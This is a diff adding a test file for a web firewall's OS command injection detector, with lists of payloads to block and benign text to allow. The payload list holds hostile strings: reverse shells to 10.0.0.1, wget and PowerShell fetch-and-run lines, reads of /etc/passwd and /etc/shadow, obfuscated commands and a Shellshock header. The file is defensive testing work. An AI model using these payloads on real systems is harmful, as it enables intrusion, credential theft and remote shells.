@@ -1,0 +1,159 @@
+/**
+ * OS command injection (`src/lib/waf/command.ts`): Unix and Windows payloads in query, form and
+ * JSON values are blocked; prose, markdown, lists with pipes and ampersands, and developer
+ * snippets pass. Also: values that once made the filter throw (a RegExp built from the value).
+ */
+// zod-openapi must extend zod before the config schema is built (as src/app.ts does first).
+import "@hono/zod-openapi";
+import { describe, expect, it } from "vitest";
+import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
+import { detectCommand, globMatch } from "../../src/lib/waf/command.ts";
+import { evaluateRequest, type WafRequest } from "../../src/lib/waf/index.ts";
+
+const DEFAULT = edgeConfigSchema.parse({ security: {} }).security;
+const BROWSER = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15";
+
+function req(url: string, body: string | null = null, contentType?: string): WafRequest {
+  const headers = new Headers({ "user-agent": BROWSER });
+  if (contentType) headers.set("content-type", contentType);
+  return { method: body === null ? "GET" : "POST", url, headers, visitor: { ip: "203.0.113.7", country: "DE", asn: 3320 }, body };
+}
+const query = (value: string) => evaluateRequest(req(`https://edge.test/search?q=${encodeURIComponent(value)}`), DEFAULT);
+const form = (value: string) => evaluateRequest(req("https://edge.test/contact", `name=x&host=${encodeURIComponent(value)}`, "application/x-www-form-urlencoded"), DEFAULT);
+const json = (value: string) => evaluateRequest(req("https://edge.test/v1/notes", JSON.stringify({ text: value }), "application/json"), DEFAULT);
+
+const ATTACKS = [
+  // separators, absolute paths, substitutions
+  ["a;/usr/bin/id|"],
+  ["127.0.0.1; cat /etc/passwd"],
+  ["127.0.0.1 && ls /etc"],
+  ["x||whoami"],
+  ["x`whoami`"],
+  ["$(cat /etc/shadow)"],
+  ["127.0.0.1\nid"],
+  ["x\nwhoami"],
+  [";id"],
+  ["&& dir"],
+  ["';htop'"],
+  // whole-value command lines
+  ["cat /etc/passwd"],
+  ["nc -lvvp 4444 -e /bin/sh"],
+  ["/usr/bin/python3 -m http.server"],
+  ["ansible-config dump\n"],
+  ["cd /;cd etc;comm passwd passwd\n"],
+  ["perf --version;"],
+  // obfuscation
+  [";cat${IFS}/etc/passwd"],
+  [";cat$IFS$9/etc/passwd"],
+  ["/???/c?t /???/p??s??"],
+  ["cat /etc/pa[s]swd"],
+  ["/etc/[p]asswd"],
+  ["c''at /etc/passwd"],
+  ["c\\at /etc/passwd"],
+  ['"w"hoami'],
+  [";c${x}url http://example.net/x.sh"],
+  ["{cat,/etc/passwd}"],
+  ["{,ifconfig}"],
+  ["c{a,oun}t /etc/hosts"],
+  ["\\ls"],
+  [";$'\\x63\\x61\\x74' /etc/passwd"],
+  // Windows
+  ["cmd /c whoami"],
+  ["& cmd.exe /c type c:\\windows\\win.ini"],
+  ["powershell -enc SQBFAFgAKAA="],
+  ["type c:\\boot.ini"],
+  ["&& dir c:\\"],
+  ["| net user hacker P4ss /add"],
+  ["w^h^o^a^m^i & ipconfig /all"],
+  ["for /f %i in ('whoami') do echo %i"],
+  ["IF EXIST C:\\pagefile.sys (ECHO yes)"],
+  ["Invoke-WebRequest http://example.net/x.ps1"],
+  [";iex (iwr http://10.0.0.1/x.ps1)"],
+  ["& timeout /t 7 &"],
+  // reverse shells, launchers, Shellshock, bash-only syntax
+  ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+  ["nc -e /bin/sh 10.0.0.1 4444"],
+  [";python -c 'import os;os.system(\"id\")'"],
+  ["() { :;}; /bin/bash -c id"],
+  ["|wget -O /tmp/x http://10.0.0.1/x"],
+  ["alias a=curl&a example.net"],
+  ["$[2+2]"],
+  ["<(cat /etc/passwd)"],
+  ["system('cat /etc/passwd')"],
+] as const;
+
+const BENIGN = [
+  ["cat and dog; ls is my favourite"],
+  ["Tom & Jerry | Cartoons"],
+  ["Salt & pepper; cat food"],
+  ["name | id | email"],
+  ["ok; id please"],
+  ["wget failed; retrying"],
+  ["Use `ls -la` to list files, then `cd` into the folder."],
+  ["What does `rm -rf node_modules` do?"],
+  ["R&D | Sales | Marketing"],
+  ["rock & roll; less is more"],
+  ["price >= 10 && stock > 0"],
+  ["node >= 18 && npm >= 9"],
+  ["If not defined, the default is used"],
+  ["For 100% in (some) cases it works"],
+  ["Fish & chips; type of potato matters"],
+  ["ls -la ~/projects"],
+  ["npm install && npm run build"],
+  ["python3 -m venv .venv && source .venv/bin/activate"],
+  ["git log --oneline | head -5"],
+  ["Dockerfile: RUN apt-get update && apt-get install -y curl"],
+  ["PowerShell: Get-ChildItem -Path C:\\Temp"],
+  ["awk -F, '{ print $2 }' data.csv"],
+  ["echo $HOME"],
+  ["/usr/local/bin is on PATH"],
+  ["query { user { id,name,email } }"],
+  ["I'd go; it's fine"],
+  ["O'Brien & Sons | Dublin"],
+  ["Meeting notes - time: 10am; who: team; what: planning"],
+  ["```bash\nnpm install example-sdk\n```"],
+  ["fn main() {\n    let words: Vec<&str> = s.split(' ').collect();\n}"],
+  ["Bash tip: use ${VAR:-default} for defaults"],
+] as const;
+
+describe("command injection", () => {
+  it.each(ATTACKS)("blocks %j in a query value and a form value", (payload) => {
+    expect(query(payload), `query ${payload}`).toMatchObject({ action: "block", class: "command" });
+    expect(form(payload).action, `form ${payload}`).toBe("block");
+  });
+
+  it.each(BENIGN)("lets %j through (query and JSON)", (text) => {
+    expect(query(text).action, `query ${text}`).toBe("allow");
+    expect(json(text).action, `json ${text}`).toBe("allow");
+  });
+
+  it("never throws on request data that looks like a glob or a broken class", () => {
+    for (const value of [";truncate[xx", ";c[", ";/???/[", "|[!]", ";a[b-]", ";*(", ";?)", ";[[[[", ";\\", ";$(", "`"]) {
+      const d = query(value);
+      expect(["allow", "block"], value).toContain(d.action);
+      expect(d.class === undefined || d.class === "command" || d.class !== "protocol").toBe(true);
+    }
+    const v = { text: ";truncate[xx", lower: ";truncate[xx", raw: ";truncate[xx", hadNull: false, field: { kind: "query", name: "test", where: "query", key: "test", value: ";truncate[xx" } } as const;
+    expect(() => detectCommand(v)).not.toThrow();
+  });
+
+  it("matches globs by hand: ?, *, classes, ranges, negation", () => {
+    expect(globMatch("c?t", "cat")).toBe(true);
+    expect(globMatch("/???/c?t".split("/")[2]!, "cat")).toBe(true);
+    expect(globMatch("[c]at", "cat")).toBe(true);
+    expect(globMatch("[a-d]at", "cat")).toBe(true);
+    expect(globMatch("[!c]at", "cat")).toBe(false);
+    expect(globMatch("w*i", "whoami")).toBe(true);
+    expect(globMatch("truncate[xx", "cat")).toBe(false);
+    expect(globMatch("*".repeat(60), "cat")).toBe(true);
+  });
+
+  it("Shellshock in a header and a restricted upload file name are blocked", () => {
+    const r = req("https://edge.test/cgi-bin/status");
+    r.headers.set("user-agent", "() { :; }; /bin/bash -c 'id'");
+    expect(evaluateRequest(r, DEFAULT)).toMatchObject({ action: "block", ruleId: "command-shellshock" });
+    const boundary = "----b0undary";
+    const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="wp-config.php.bak"\r\nContent-Type: text/plain\r\n\r\nx\r\n--${boundary}--\r\n`;
+    expect(evaluateRequest(req("https://edge.test/upload", body, `multipart/form-data; boundary=${boundary}`), DEFAULT).action).toBe("block");
+  });
+});
